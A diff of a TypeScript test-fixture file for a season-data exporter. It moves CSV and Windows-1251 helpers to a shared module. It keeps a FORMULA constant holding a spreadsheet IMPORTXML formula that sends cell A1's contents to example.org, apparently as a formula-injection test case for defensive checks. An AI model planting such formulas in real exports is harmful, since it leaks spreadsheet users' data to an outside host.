@@ -2,6 +2,7 @@
 import { mkdtempSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { csv, inWindows1251 } from '../bundle-runs/csv';
 
 /** Text that a spreadsheet would take for a formula. */
 export const FORMULA = '=IMPORTXML("http://example.org/?"&A1;"//a")';
@@ -143,23 +144,6 @@ export const smallSeason = {
   mentors: [mentorHeader, ...mentors],
   consents: [consentHeader, ...consents],
 };
-
-/** A CSV text with quotes where they are needed. */
-export function csv(rows: readonly (readonly string[])[], separator: string): string {
-  const cell = (text: string) => (/["\n;,\t]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text);
-  return rows.map((row) => `${row.map(cell).join(separator)}\r\n`).join('');
-}
-
-/** Windows-1251 of a Russian text. */
-export function inWindows1251(text: string): Uint8Array {
-  return Uint8Array.from(
-    [...text].map((letter) => {
-      const code = letter.codePointAt(0) ?? 0;
-      const known = { ё: 0xb8, Ё: 0xa8, '–': 0x96, '№': 0xb9 }[letter];
-      return known ?? (code >= 0x410 && code <= 0x44f ? code - 0x350 : code);
-    }),
-  );
-}
 
 /** Writes the season, or some tables of it changed, into a new folder and gives its path. */
 export function seasonFolder(
